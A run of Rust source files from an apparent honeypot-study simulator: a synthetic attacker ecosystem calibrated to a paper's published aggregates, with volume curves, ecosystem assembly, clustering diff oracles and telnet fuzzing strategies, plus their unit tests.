        // multi-source blend lands at 14%; Hashes is the most concentrated.
        assert!((top10_of(Dimension::Clients) - 0.14).abs() < 0.02);
        assert!((top10_of(Dimension::Sessions) - 0.20).abs() < 0.02);
        assert!((top10_of(Dimension::Hashes) - 0.22).abs() < 0.03);
    }

    #[test]
    fn paper_shape_spread_exceeds_30x() {
        let w = HoneypotWeights::paper_shape(221, Dimension::Sessions, 7);
        let ranked = w.ranked();
        let max = w.mass(ranked[0] as usize);
        let min = w.mass(*ranked.last().unwrap() as usize);
        assert!(max / min > 10.0, "spread {}", max / min);
    }

    #[test]
    fn dimensions_have_different_hot_sets() {
        let s = HoneypotWeights::paper_shape(221, Dimension::Sessions, 7);
        let c = HoneypotWeights::paper_shape(221, Dimension::Clients, 7);
        let h = HoneypotWeights::paper_shape(221, Dimension::Hashes, 7);
        let top = |w: &HoneypotWeights| {
            w.ranked()[..10]
                .iter()
                .copied()
                .collect::<std::collections::BTreeSet<u16>>()
        };
        let (ts, tc, th) = (top(&s), top(&c), top(&h));
        assert_ne!(ts, tc);
        assert_ne!(ts, th);
        assert_ne!(tc, th);
    }

    #[test]
    fn sampling_matches_mass() {
        use rand::SeedableRng;
        let w = HoneypotWeights::paper_shape(221, Dimension::Sessions, 3);
        let hot = w.ranked()[0] as usize;
        let mut rng = SmallRng::seed_from_u64(9);
        let n = 200_000;
        let hits = (0..n)
            .filter(|_| w.sample(&mut rng) as usize == hot)
            .count();
        let frac = hits as f64 / n as f64;
        assert!(
            (frac - w.mass(hot)).abs() < 0.003,
            "frac {frac} vs mass {}",
            w.mass(hot)
        );
    }

    #[test]
    fn pick_is_total_on_unit_interval() {
        let w = HoneypotWeights::uniform(5);
        assert_eq!(w.pick(0.0), 0);
        assert_eq!(w.pick(0.999_999), 4);
        // Degenerate u = 1.0 (can't happen from gen::<f64>() but pick is total)
        assert_eq!(w.pick(1.0), 4);
    }

    #[test]
    fn deterministic_across_builds() {
        let a = HoneypotWeights::paper_shape(221, Dimension::Clients, 5);
        let b = HoneypotWeights::paper_shape(221, Dimension::Clients, 5);
        assert_eq!(a.ranked(), b.ranked());
    }
}
