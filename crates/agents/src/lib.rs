//! The synthetic attacker ecosystem.
//!
//! The paper's dataset is private; what *is* published are its aggregate
//! shapes — category mix (Table 1), heavy-tailed honeypot popularity (Fig. 2),
//! client spread and lifetime ECDFs (Figs. 12–13), the campaign catalog
//! (Tables 4–6), freshness dynamics (Fig. 17), geographic mixes (Fig. 10),
//! and a handful of dated anomalies (the 2022-09-05 spike, the Russian
//! datacenter NO_CMD prefix, the June 2022 CMD+URI burst). This crate encodes
//! those shapes as a generative model:
//!
//! - [`scale`]: one knob scaling the paper's 402 M sessions down to laptop
//!   size while preserving every ratio,
//! - [`curves`]: per-source daily-volume curves (ramp-ups, dated spikes,
//!   deterministic day-seeded jitter),
//! - [`weights`]: per-source honeypot-popularity vectors (why the
//!   sessions-richest honeypots differ from the clients-richest and the
//!   hash-richest ones),
//! - [`clients`]: the client-IP pool with per-client spread and lifetime,
//! - [`credentials`]: username/password catalogs calibrated to Table 2,
//! - [`campaigns`]: the intrusion-campaign catalog — headline campaigns
//!   H1…H42 with the paper's per-campaign session/client/day/honeypot
//!   cardinalities, plus the procedurally generated long tail,
//! - [`sources`]: the scanner / bruteforce / no-cmd traffic sources,
//! - [`plan`]: the [`plan::SessionPlan`] unit handed to the simulator,
//! - [`ecosystem`]: assembly of all of the above from a single seed.
//!
//! Nothing here touches the honeypot directly: sources emit *plans*, and
//! `hf-sim` executes every plan through the real
//! `hf_honeypot::SessionDriver` + `hf_shell` code path, so the recorded
//! dataset is produced by the same machinery a live deployment would use.

pub mod campaigns;
pub mod clients;
pub mod credentials;
pub mod curves;
pub mod ecosystem;
pub mod plan;
pub mod scale;
pub mod sources;
pub mod weights;

pub use campaigns::{CampaignCatalog, CampaignId, CampaignSpec, Tag, TargetSet};
pub use clients::{ClientPool, ClientRef};
pub use ecosystem::{Ecosystem, EcosystemConfig};
pub use plan::{Behavior, SessionPlan};
pub use scale::Scale;
