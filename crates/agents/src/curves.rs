//! Daily-volume curves: base level, ramps, dated spikes, deterministic jitter.
//!
//! Each traffic source has a curve describing how its daily session volume
//! evolves over the 486-day window. The paper pins several dated features we
//! reproduce literally:
//!
//! - scanning (NO_CRED) ramps up ~2 months in ("it takes scanners some time
//!   to discover the honeypots"), Fig. 11,
//! - a farm-wide FAIL_LOG spike on 2022-09-05 and another on 2022-11-05,
//!   plus elevated activity in spring 2022 (Figs. 3, 6, 8),
//! - the Russian-datacenter NO_CMD surges at the start and end of the window
//!   (Fig. 6),
//! - a CMD+URI burst in June 2022 with ~2,500 client IPs (Fig. 11).

use hf_hash::Fnv64;
use hf_simclock::{Date, StudyWindow};

/// A dated spike: volume is multiplied by `factor` for `len_days` starting at
/// `start` (day index).
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct Spike {
    /// First day index of the spike.
    pub start: u32,
    /// Number of days the spike lasts.
    pub len_days: u32,
    /// Multiplicative factor (>1).
    pub factor: f64,
}

/// A per-source daily volume curve.
#[derive(Debug, Clone)]
pub struct DailyCurve {
    /// Base relative level per day (before spikes/jitter), length = window days.
    base: Vec<f64>,
    /// Dated spikes.
    spikes: Vec<Spike>,
    /// Jitter amplitude: daily factor drawn in [1-a, 1+a].
    jitter: f64,
    /// Seed for the per-day jitter stream.
    seed: u64,
}

impl DailyCurve {
    /// Flat curve at level 1.
    pub fn flat(days: u32, seed: u64) -> Self {
        DailyCurve {
            base: vec![1.0; days as usize],
            spikes: Vec::new(),
            jitter: 0.0,
            seed,
        }
    }

    /// Curve that ramps linearly from `lo` to `hi` between `ramp_start` and
    /// `ramp_end` (day indices), flat elsewhere.
    pub fn ramp(days: u32, lo: f64, hi: f64, ramp_start: u32, ramp_end: u32, seed: u64) -> Self {
        assert!(ramp_start <= ramp_end);
        let base = (0..days)
            .map(|d| {
                if d < ramp_start {
                    lo
                } else if d >= ramp_end {
                    hi
                } else {
                    lo + (hi - lo) * (d - ramp_start) as f64 / (ramp_end - ramp_start) as f64
                }
            })
            .collect();
        DailyCurve {
            base,
            spikes: Vec::new(),
            jitter: 0.0,
            seed,
        }
    }

    /// Set the base level for a day range (inclusive start, exclusive end).
    pub fn set_range(mut self, start: u32, end: u32, level: f64) -> Self {
        for d in start..end.min(self.base.len() as u32) {
            self.base[d as usize] = level;
        }
        self
    }

    /// Add a spike.
    pub fn with_spike(mut self, spike: Spike) -> Self {
        self.spikes.push(spike);
        self
    }

    /// Add a spike by calendar date.
    pub fn with_spike_on(
        self,
        window: &StudyWindow,
        date: Date,
        len_days: u32,
        factor: f64,
    ) -> Self {
        match window.day_index(date) {
            Some(d) => self.with_spike(Spike {
                start: d,
                len_days,
                factor,
            }),
            None => self,
        }
    }

    /// Set multiplicative jitter amplitude.
    pub fn with_jitter(mut self, amplitude: f64) -> Self {
        assert!((0.0..1.0).contains(&amplitude));
        self.jitter = amplitude;
        self
    }

    /// Relative level for a day, spikes and jitter applied.
    pub fn level(&self, day: u32) -> f64 {
        let mut v = *self.base.get(day as usize).unwrap_or(&0.0);
        for s in &self.spikes {
            if day >= s.start && day < s.start + s.len_days {
                v *= s.factor;
            }
        }
        if self.jitter > 0.0 {
            // Deterministic per-day uniform in [1-j, 1+j].
            let h = Fnv64::new().mix_u64(self.seed).mix_u64(day as u64).finish();
            let u = (h >> 11) as f64 / (1u64 << 53) as f64; // [0,1)
            v *= 1.0 - self.jitter + 2.0 * self.jitter * u;
        }
        v
    }

    /// Sum of levels over all days (for normalization).
    pub fn total(&self) -> f64 {
        (0..self.base.len() as u32).map(|d| self.level(d)).sum()
    }

    /// Number of days covered.
    pub fn days(&self) -> u32 {
        self.base.len() as u32
    }

    /// Absolute session count for a day, given the source's total volume.
    /// The curve is normalized so that summing over all days ≈ `total_sessions`.
    pub fn sessions_on(&self, day: u32, total_sessions: u64, norm: f64) -> u64 {
        if norm <= 0.0 {
            return 0;
        }
        (total_sessions as f64 * self.level(day) / norm).round() as u64
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn flat_curve_levels() {
        let c = DailyCurve::flat(10, 0);
        assert_eq!(c.level(0), 1.0);
        assert_eq!(c.level(9), 1.0);
        assert_eq!(c.level(10), 0.0, "out of range is zero");
        assert_eq!(c.total(), 10.0);
    }

    #[test]
    fn ramp_shape() {
        let c = DailyCurve::ramp(100, 1.0, 3.0, 20, 60, 0);
        assert_eq!(c.level(0), 1.0);
        assert_eq!(c.level(19), 1.0);
        assert!((c.level(40) - 2.0).abs() < 0.01);
        assert_eq!(c.level(60), 3.0);
        assert_eq!(c.level(99), 3.0);
    }

    #[test]
    fn spikes_multiply() {
        let c = DailyCurve::flat(30, 0).with_spike(Spike {
            start: 10,
            len_days: 2,
            factor: 5.0,
        });
        assert_eq!(c.level(9), 1.0);
        assert_eq!(c.level(10), 5.0);
        assert_eq!(c.level(11), 5.0);
        assert_eq!(c.level(12), 1.0);
    }

    #[test]
    fn spike_by_date() {
        let w = StudyWindow::paper();
        let c = DailyCurve::flat(w.num_days(), 0).with_spike_on(&w, Date::new(2022, 9, 5), 1, 10.0);
        let d = w.day_index(Date::new(2022, 9, 5)).unwrap();
        assert_eq!(c.level(d), 10.0);
        assert_eq!(c.level(d - 1), 1.0);
    }

    #[test]
    fn jitter_is_deterministic_and_bounded() {
        let a = DailyCurve::flat(100, 42).with_jitter(0.2);
        let b = DailyCurve::flat(100, 42).with_jitter(0.2);
        for d in 0..100 {
            assert_eq!(a.level(d), b.level(d));
            assert!(a.level(d) >= 0.8 && a.level(d) <= 1.2);
        }
        let c = DailyCurve::flat(100, 43).with_jitter(0.2);
        assert!((0..100).any(|d| a.level(d) != c.level(d)));
    }

    #[test]
    fn sessions_on_distributes_total() {
        let c = DailyCurve::flat(10, 1).with_jitter(0.1);
        let norm = c.total();
        let sum: u64 = (0..10).map(|d| c.sessions_on(d, 10_000, norm)).sum();
        assert!((sum as i64 - 10_000).abs() < 20, "sum={sum}");
    }

    #[test]
    fn set_range_overrides() {
        let c = DailyCurve::flat(10, 0).set_range(3, 6, 0.0);
        assert_eq!(c.level(2), 1.0);
        assert_eq!(c.level(3), 0.0);
        assert_eq!(c.level(5), 0.0);
        assert_eq!(c.level(6), 1.0);
    }
}
