//! Ecosystem assembly: one seed → the whole synthetic Internet's attacker
//! population, calibrated to the paper's published aggregates.

use hf_farm::FarmPlan;
use hf_geo::{World, WorldConfig};
use hf_hash::Fnv64;
use hf_simclock::StudyWindow;
use rand::rngs::SmallRng;
use rand::SeedableRng;

use crate::campaigns::CampaignCatalog;
use crate::clients::{Client, ClientPool, ClientRef};
use crate::credentials::CredentialModel;
use crate::plan::SessionPlan;
use crate::scale::{checked_u32, checked_u64, Scale};
use crate::sources::{
    BruteforceSource, CampaignPlanner, NoCmdSource, PlanCtx, ReconSource, ScannerSource,
    SharedPools, TrafficSource,
};

/// Paper volume constants (scale 1.0).
mod paper {
    /// Total sessions over the window ("more than 402 million").
    pub const TOTAL_SESSIONS: f64 = 402_000_000.0;
    /// Category fractions (Table 1).
    pub const FRAC_NO_CRED: f64 = 0.277;
    pub const FRAC_FAIL_LOG: f64 = 0.42;
    pub const FRAC_NO_CMD: f64 = 0.116;
    /// CMD recon (file-less) share: CMD total 18% minus what the campaign
    /// catalog provides (H1 ≈ 6.4%, headliners ≈ 0.2%, tail ≈ 0.4%).
    pub const FRAC_RECON: f64 = 0.18 - 0.0704;
}

/// Configuration of a full ecosystem.
#[derive(Debug, Clone)]
pub struct EcosystemConfig {
    /// Root seed: everything derives from it.
    pub seed: u64,
    /// Volume scale.
    pub scale: Scale,
    /// Observation window.
    pub window: StudyWindow,
}

impl Default for EcosystemConfig {
    fn default() -> Self {
        EcosystemConfig {
            seed: 0x0e0e_fa20,
            scale: Scale::default_bench(),
            window: StudyWindow::paper(),
        }
    }
}

/// The assembled ecosystem.
pub struct Ecosystem {
    /// Configuration used to build it.
    pub config: EcosystemConfig,
    /// The synthetic Internet.
    pub world: World,
    /// The farm deployment.
    pub plan: FarmPlan,
    /// The campaign catalog.
    pub catalog: CampaignCatalog,
    /// The credential model (Table 2 calibrated).
    pub creds: CredentialModel,
    pool: ClientPool,
    shared: SharedPools,
    scanner: ScannerSource,
    bruteforce: BruteforceSource,
    nocmd: NoCmdSource,
    recon: ReconSource,
    campaigns: CampaignPlanner,
}

impl Ecosystem {
    /// Build everything from a config.
    pub fn new(config: EcosystemConfig) -> Self {
        let seed = config.seed;
        let scale = config.scale;
        let window = config.window;
        // AS breadth scales sub-linearly, like hash diversity.
        let world_cfg = WorldConfig {
            client_as_count: Self::client_as_count(&scale),
            ..WorldConfig::default()
        };
        let world = World::build(
            Fnv64::new().mix_u64(seed).mix(b"world").finish(),
            &world_cfg,
        );
        let plan = FarmPlan::paper();
        let n_honeypots = plan.len() as u16;
        let catalog = CampaignCatalog::build(
            Fnv64::new().mix_u64(seed).mix(b"catalog").finish(),
            &scale,
            &window,
        );
        let total = Self::session_budget_f64(&scale, &window);
        let scanner = ScannerSource::new(
            Fnv64::new().mix_u64(seed).mix(b"scan").finish(),
            checked_u64(total * paper::FRAC_NO_CRED, "NO_CRED budget"),
            &window,
            n_honeypots,
        );
        let bruteforce = BruteforceSource::new(
            Fnv64::new().mix_u64(seed).mix(b"brute").finish(),
            checked_u64(total * paper::FRAC_FAIL_LOG, "FAIL_LOG budget"),
            &window,
            n_honeypots,
        );
        let nocmd = NoCmdSource::new(
            Fnv64::new().mix_u64(seed).mix(b"nocmd").finish(),
            checked_u64(total * paper::FRAC_NO_CMD, "NO_CMD budget"),
            &window,
            n_honeypots,
        );
        let recon = ReconSource::new(
            Fnv64::new().mix_u64(seed).mix(b"recon").finish(),
            checked_u64(total * paper::FRAC_RECON, "CMD recon budget"),
            &window,
            n_honeypots,
        );
        let campaigns = CampaignPlanner::new(&catalog, window.num_days());
        Ecosystem {
            config,
            world,
            plan,
            catalog,
            creds: CredentialModel::new(),
            pool: ClientPool::new(),
            shared: SharedPools::default(),
            scanner,
            bruteforce,
            nocmd,
            recon,
            campaigns,
        }
    }

    /// Sub-linear AS breadth for the synthetic Internet (paper: 17,700 client
    /// ASes at full scale; small runs keep at least 300 so geography stays
    /// plausible). Checked: an absurd hash scale panics instead of silently
    /// saturating `u32`.
    pub fn client_as_count(scale: &Scale) -> u32 {
        checked_u32((17_700.0 * scale.hashes).ceil(), "client AS count").max(300)
    }

    /// Session budget for a scale and window, before the per-source category
    /// split. Truncated windows (tests) get a proportional share of the
    /// volume. Kept as `f64` so the category fractions below multiply the
    /// exact proportional value; the checked truncation happens per source.
    fn session_budget_f64(scale: &Scale, window: &StudyWindow) -> f64 {
        let window_frac = window.num_days() as f64 / StudyWindow::paper().num_days() as f64;
        scale.count(paper::TOTAL_SESSIONS) as f64 * window_frac
    }

    /// [`Self::session_budget_f64`] as a checked integer count — the total
    /// the traffic sources are sized from.
    pub fn session_budget(scale: &Scale, window: &StudyWindow) -> u64 {
        checked_u64(Self::session_budget_f64(scale, window), "session budget")
    }

    /// Expected session total for the configured scale and window — the
    /// budget the traffic sources were sized from. Actual counts drift a
    /// little (per-day rounding, diurnal shaping), so treat this as a
    /// capacity hint, not an exact count.
    pub fn estimated_sessions(&self) -> usize {
        usize::try_from(Self::session_budget(
            &self.config.scale,
            &self.config.window,
        ))
        .expect("session budget overflows usize")
    }

    /// Plan all sessions for one day.
    ///
    /// The returned vector is in a *total* deterministic order — sorted by
    /// `(start_secs, honeypot, client, seed)`, a key that is unique per plan
    /// in practice — not merely chronological. Downstream consumers rely on
    /// this: `hf-sim` shards the vector into contiguous chunks for parallel
    /// execution and merges results back in chunk order, which is only
    /// reproducible because the order here is already fully determined.
    pub fn plan_day(&mut self, day: u32) -> Vec<SessionPlan> {
        let mut out = Vec::new();
        let seed = self.config.seed;
        let mut ctx = PlanCtx {
            world: &self.world,
            plan: &self.plan,
            pool: &mut self.pool,
            shared: &mut self.shared,
        };
        let rng_for = |tag: &[u8]| {
            SmallRng::seed_from_u64(
                Fnv64::new()
                    .mix_u64(seed)
                    .mix(tag)
                    .mix_u64(day as u64)
                    .finish(),
            )
        };
        self.scanner
            .plan_day(day, &mut ctx, &mut rng_for(b"scan"), &mut out);
        self.bruteforce
            .plan_day(day, &mut ctx, &mut rng_for(b"brute"), &mut out);
        self.nocmd
            .plan_day(day, &mut ctx, &mut rng_for(b"nocmd"), &mut out);
        self.recon
            .plan_day(day, &mut ctx, &mut rng_for(b"recon"), &mut out);
        self.campaigns.plan_day(
            day,
            &self.catalog,
            &mut ctx,
            &mut rng_for(b"campaign"),
            &mut out,
        );
        // Total deterministic order (see the doc comment above): ties on
        // start time are broken by honeypot, client, and per-plan seed.
        out.sort_by_key(|p| (p.start_secs, p.honeypot, p.client.0, p.seed));
        out
    }

    /// Look up a planned client.
    pub fn client(&self, r: ClientRef) -> &Client {
        self.pool.get(r)
    }

    /// Number of distinct clients allocated so far.
    pub fn n_clients(&self) -> usize {
        self.pool.len()
    }

    /// Read access to the client pool (the simulator resolves plan clients
    /// through this).
    pub fn pool_ref(&self) -> &ClientPool {
        &self.pool
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::plan::Behavior;

    fn tiny_ecosystem() -> Ecosystem {
        Ecosystem::new(EcosystemConfig {
            seed: 42,
            scale: Scale::tiny(),
            window: StudyWindow::first_days(40),
        })
    }

    #[test]
    fn plan_day_is_deterministic() {
        let mut a = tiny_ecosystem();
        let mut b = tiny_ecosystem();
        let pa = a.plan_day(10);
        let pb = b.plan_day(10);
        assert_eq!(pa.len(), pb.len());
        assert_eq!(pa, pb);
    }

    #[test]
    fn plans_are_sorted_and_valid() {
        let mut eco = tiny_ecosystem();
        let plans = eco.plan_day(5);
        assert!(!plans.is_empty());
        assert!(plans.windows(2).all(|w| w[0].start_secs <= w[1].start_secs));
        for p in &plans {
            assert!((p.honeypot as usize) < eco.plan.len());
            assert!((p.client.0 as usize) < eco.n_clients());
        }
    }

    #[test]
    fn category_mix_roughly_matches_table1() {
        let mut eco = tiny_ecosystem();
        let mut counts = [0usize; 4]; // scan, scout, login-idle, cmd-ish
        for day in 0..40 {
            for p in eco.plan_day(day) {
                match p.behavior {
                    Behavior::Scan { .. } => counts[0] += 1,
                    Behavior::Scout { .. } => counts[1] += 1,
                    Behavior::LoginIdle { .. } => counts[2] += 1,
                    Behavior::Script { .. } | Behavior::Recon { .. } => counts[3] += 1,
                }
            }
        }
        let total: usize = counts.iter().sum();
        let frac = |c: usize| c as f64 / total as f64;
        // Early-window (40 days) fractions skew: scanning hasn't ramped yet
        // and the no-cmd prefix is in its strong phase. Just check sanity:
        assert!(frac(counts[1]) > 0.25, "FAIL_LOG {}", frac(counts[1]));
        assert!(frac(counts[0]) > 0.10, "NO_CRED {}", frac(counts[0]));
        assert!(frac(counts[3]) > 0.08, "CMD-ish {}", frac(counts[3]));
    }

    #[test]
    fn estimated_sessions_tracks_planned_volume() {
        let mut eco = tiny_ecosystem();
        let est = eco.estimated_sessions();
        assert!(est > 0);
        let planned: usize = (0..40).map(|d| eco.plan_day(d).len()).sum();
        // The estimate is a sizing hint; it should land within a factor of
        // two of what the sources actually emit.
        assert!(
            planned / 2 <= est && est <= planned * 2,
            "estimate {est} vs planned {planned}"
        );
    }

    #[test]
    fn sizing_math_is_exact_across_scales() {
        // `Scale::of` rejects >1.0, so build the 10× scale directly; these
        // helpers are pure sizing math and never allocate a 4-billion-session
        // world.
        for volume in [0.001, 1.0, 10.0] {
            let scale = Scale {
                volume,
                hashes: volume.sqrt(),
            };
            let asn = Ecosystem::client_as_count(&scale);
            let expected = (17_700.0 * scale.hashes).ceil() as u32;
            assert_eq!(asn, expected.max(300), "AS count at volume {volume}");
            let total = Ecosystem::session_budget(&scale, &StudyWindow::paper());
            assert_eq!(
                total,
                (402_000_000.0f64 * volume).round() as u64,
                "session budget at volume {volume}"
            );
            // A truncated window gets a proportional share.
            let short = Ecosystem::session_budget(&scale, &StudyWindow::first_days(243));
            assert!(
                short <= total / 2 + 1,
                "half window over-budgeted: {short} vs {total}"
            );
        }
        // 10× the paper is ~4.02 B sessions: past u32, comfortably in u64 —
        // the old unchecked `as` casts were one word-size slip away from
        // silently wrapping this.
        let ten = Scale {
            volume: 10.0,
            hashes: 10.0f64.sqrt(),
        };
        assert_eq!(
            Ecosystem::session_budget(&ten, &StudyWindow::paper()),
            4_020_000_000
        );
    }

    #[test]
    #[should_panic(expected = "client AS count")]
    fn non_finite_scale_panics_instead_of_saturating() {
        Ecosystem::client_as_count(&Scale {
            volume: 1.0,
            hashes: f64::INFINITY,
        });
    }

    #[test]
    fn client_population_grows_with_days() {
        let mut eco = tiny_ecosystem();
        eco.plan_day(0);
        let after_one = eco.n_clients();
        for d in 1..10 {
            eco.plan_day(d);
        }
        assert!(eco.n_clients() > after_one);
    }

    #[test]
    fn multi_role_clients_exist() {
        let mut eco = tiny_ecosystem();
        let mut roles: std::collections::HashMap<u32, std::collections::BTreeSet<u8>> =
            Default::default();
        for day in 0..30 {
            for p in eco.plan_day(day) {
                let role = match p.behavior {
                    Behavior::Scan { .. } => 0u8,
                    Behavior::Scout { .. } => 1,
                    Behavior::LoginIdle { .. } => 2,
                    Behavior::Script { .. } | Behavior::Recon { .. } => 3,
                };
                roles.entry(p.client.0).or_default().insert(role);
            }
        }
        let multi = roles.values().filter(|s| s.len() > 1).count();
        // The paper's ~40% multi-role share needs the full window and scale
        // (asserted in the integration suite); a tiny 30-day slice just has
        // to exhibit the mechanism.
        assert!(
            multi as f64 / roles.len() as f64 > 0.005,
            "multi-role fraction {}",
            multi as f64 / roles.len() as f64
        );
    }
}
