//! Differential oracles for the clustering pipeline.
//!
//! Same contract as [`crate::oracle`]: compare every observable surface of
//! two runs field-by-field and name the diverging field, instead of a bare
//! `assert_eq!` over a thousand floats. Floats are compared *bitwise*
//! (`f64::to_bits`) — the invariance the cluster subsystem promises is
//! bit-identity across thread counts and ingest paths, not closeness.

use hf_cluster::{ClusterOutput, FeatureMatrix, FEATURE_NAMES, N_FEATURES};
use hf_geo::Ip4;

use crate::oracle::{DiffReport, MAX_DETAIL};

/// Push a bitwise float mismatch with both values rendered exactly.
fn float_field(
    report: &mut DiffReport,
    budget: &mut usize,
    field: impl Into<String>,
    a: f64,
    b: f64,
) {
    if a.to_bits() == b.to_bits() {
        return;
    }
    if *budget > 0 {
        *budget -= 1;
        report.push(
            field,
            format!("{a:?} ({:#x}) != {b:?} ({:#x})", a.to_bits(), b.to_bits()),
        );
    } else {
        report.suppressed += 1;
    }
}

/// Compare two normalized feature matrices bit-for-bit: the client row
/// sets, then every named feature cell. Mismatch fields read
/// `features[1.2.3.4].cmd_vocab`.
pub fn diff_features(a: &FeatureMatrix, b: &FeatureMatrix, left: &str, right: &str) -> DiffReport {
    let mut report = DiffReport::new(left, right);
    if a.len() != b.len() {
        report.push(
            "features.clients.len",
            format!("{} != {}", a.len(), b.len()),
        );
        return report;
    }
    let mut budget = MAX_DETAIL;
    for (i, (&ia, &ib)) in a.clients.iter().zip(&b.clients).enumerate() {
        if ia != ib {
            if budget > 0 {
                budget -= 1;
                report.push(
                    format!("features.clients[{i}]"),
                    format!("{} != {}", Ip4(ia), Ip4(ib)),
                );
            } else {
                report.suppressed += 1;
            }
        }
    }
    if !report.is_identical() {
        return report; // cell comparison is meaningless on different keys
    }
    let mut budget = MAX_DETAIL;
    for i in 0..a.len() {
        let (ra, rb) = (a.row(i), b.row(i));
        for f in 0..N_FEATURES {
            float_field(
                &mut report,
                &mut budget,
                format!("features[{}].{}", Ip4(a.clients[i]), FEATURE_NAMES[f]),
                ra[f],
                rb[f],
            );
        }
    }
    report
}

/// Compare two clusterings field-by-field: k, silhouette (bitwise), the
/// sweep, per-cluster sizes and centroids, and every client's assignment.
pub fn diff_clusters(a: &ClusterOutput, b: &ClusterOutput, left: &str, right: &str) -> DiffReport {
    let mut report = DiffReport::new(left, right);
    if a.k != b.k {
        report.push("clusters.k", format!("{} != {}", a.k, b.k));
    }
    let mut budget = MAX_DETAIL;
    float_field(
        &mut report,
        &mut budget,
        "clusters.silhouette",
        a.silhouette,
        b.silhouette,
    );
    if a.sweep.len() != b.sweep.len() {
        report.push(
            "clusters.sweep.len",
            format!("{} != {}", a.sweep.len(), b.sweep.len()),
        );
    } else {
        for (i, ((ka, sa), (kb, sb))) in a.sweep.iter().zip(&b.sweep).enumerate() {
            if ka != kb {
                report.push(format!("clusters.sweep[{i}].k"), format!("{ka} != {kb}"));
            }
            float_field(
                &mut report,
                &mut budget,
                format!("clusters.sweep[{i}].score"),
                *sa,
                *sb,
            );
        }
    }
    if a.sizes != b.sizes {
        report.push("clusters.sizes", format!("{:?} != {:?}", a.sizes, b.sizes));
    }
    if a.assignments.len() != b.assignments.len() {
        report.push(
            "clusters.assignments.len",
            format!("{} != {}", a.assignments.len(), b.assignments.len()),
        );
        return report;
    }
    let mut budget = MAX_DETAIL;
    for (i, (&(ipa, ca), &(ipb, cb))) in a.assignments.iter().zip(&b.assignments).enumerate() {
        if ipa != ipb {
            if budget > 0 {
                budget -= 1;
                report.push(
                    format!("clusters.assignments[{i}].client"),
                    format!("{} != {}", Ip4(ipa), Ip4(ipb)),
                );
            } else {
                report.suppressed += 1;
            }
        } else if ca != cb {
            if budget > 0 {
                budget -= 1;
                report.push(
                    format!("assign[{}]", Ip4(ipa)),
                    format!("cluster {ca} != {cb}"),
                );
            } else {
                report.suppressed += 1;
            }
        }
    }
    if a.centroids.len() == b.centroids.len() {
        let mut budget = MAX_DETAIL;
        for (c, (ca, cb)) in a.centroids.iter().zip(&b.centroids).enumerate() {
            for f in 0..N_FEATURES {
                float_field(
                    &mut report,
                    &mut budget,
                    format!("clusters.centroid[{c}].{}", FEATURE_NAMES[f]),
                    ca[f],
                    cb[f],
                );
            }
        }
    } else {
        report.push(
            "clusters.centroids.len",
            format!("{} != {}", a.centroids.len(), b.centroids.len()),
        );
    }
    report
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tiny_matrix(vals: &[(u32, f64)]) -> FeatureMatrix {
        let mut data = Vec::new();
        for &(_, v) in vals {
            let mut row = [0.0; N_FEATURES];
            row[0] = v;
            data.extend_from_slice(&row);
        }
        FeatureMatrix {
            clients: vals.iter().map(|&(ip, _)| ip).collect(),
            data,
        }
    }

    #[test]
    fn identical_matrices_diff_clean() {
        let m = tiny_matrix(&[(1, 0.25), (2, 0.75)]);
        let d = diff_features(&m, &m.clone(), "a", "b");
        assert!(d.is_identical(), "{}", d.render());
    }

    #[test]
    fn a_flipped_bit_is_named_by_client_and_feature() {
        let a = tiny_matrix(&[(0x0102_0304, 0.25), (5, 0.75)]);
        let mut b = a.clone();
        b.data[0] = 0.25000000001;
        let d = diff_features(&a, &b, "threads=1", "threads=8");
        assert!(!d.is_identical());
        let rendered = d.render();
        assert!(
            rendered.contains("features[1.2.3.4].sessions_log"),
            "mismatch must name the client and feature:\n{rendered}"
        );
    }

    #[test]
    fn divergent_assignments_are_named_by_client() {
        let m = tiny_matrix(&[(0x0102_0304, 0.1), (9, 0.9)]);
        let out = hf_cluster::cluster(&m, &hf_cluster::KMeansConfig::default());
        let mut other = out.clone();
        other.assignments[0].1 ^= 1;
        let d = diff_clusters(&out, &other, "mat", "stream");
        let rendered = d.render();
        assert!(
            rendered.contains("assign[1.2.3.4]"),
            "mismatch must name the reassigned client:\n{rendered}"
        );
    }
}
