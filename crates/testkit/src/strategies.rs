//! Structured fuzzing strategies for the pipeline's parsing surfaces.
//!
//! The vendored proptest subset exposes the [`Strategy`] trait directly, so
//! structured generators are written as types implementing it. Each
//! strategy biases toward the interesting region of its input space —
//! almost-valid telnet negotiation, almost-RFC SSH idents, realistic shell
//! command composition, and targeted snapshot corruption — while still
//! mixing in raw noise, because "mostly valid with surgical damage"
//! exercises far deeper code paths than uniform bytes.
//!
//! The panic-freedom suites in `tests/fuzz_surfaces.rs` drive these through
//! `hf_proto`, `hf_shell`, and `hf_farm::snapshot` entry points.

use proptest::strategy::Strategy;
use rand::rngs::SmallRng;
use rand::Rng;

use hf_proto::telnet::{self, IAC};
use hf_shell::lexer::Chain;
use hf_shell::{Redirection, Statement};

// ---------------------------------------------------------------------------
// Telnet negotiation streams

/// Strategy for telnet wire bytes: a mix of plain data, escaped 0xFF,
/// negotiation verbs, sub-negotiations (complete, malformed, and
/// truncated), and bare commands.
#[derive(Debug, Clone, Copy, Default)]
pub struct TelnetStream;

/// Telnet wire-byte strategy (see [`TelnetStream`]).
pub fn telnet_stream() -> TelnetStream {
    TelnetStream
}

impl Strategy for TelnetStream {
    type Value = Vec<u8>;

    fn generate(&self, rng: &mut SmallRng) -> Vec<u8> {
        let mut out = Vec::new();
        let pieces = rng.gen_range(0usize..12);
        for _ in 0..pieces {
            match rng.gen_range(0u32..10) {
                // Plain printable data (possibly with line endings).
                0..=2 => {
                    let n = rng.gen_range(0usize..12);
                    for _ in 0..n {
                        out.push(rng.gen_range(0x20u8..0x7f));
                    }
                    if rng.gen_ratio(1, 2) {
                        out.extend_from_slice(b"\r\n");
                    }
                }
                // Escaped literal 0xFF.
                3 => out.extend_from_slice(&[IAC, IAC]),
                // Option negotiation, valid verbs.
                4..=5 => {
                    let verb = [telnet::WILL, telnet::WONT, telnet::DO, telnet::DONT]
                        [rng.gen_range(0usize..4)];
                    out.extend_from_slice(&[IAC, verb, rng.gen()]);
                }
                // Complete sub-negotiation with a small payload.
                6 => {
                    out.extend_from_slice(&[IAC, telnet::SB, rng.gen()]);
                    let n = rng.gen_range(0usize..6);
                    for _ in 0..n {
                        let b: u8 = rng.gen();
                        if b == IAC {
                            out.extend_from_slice(&[IAC, IAC]);
                        } else {
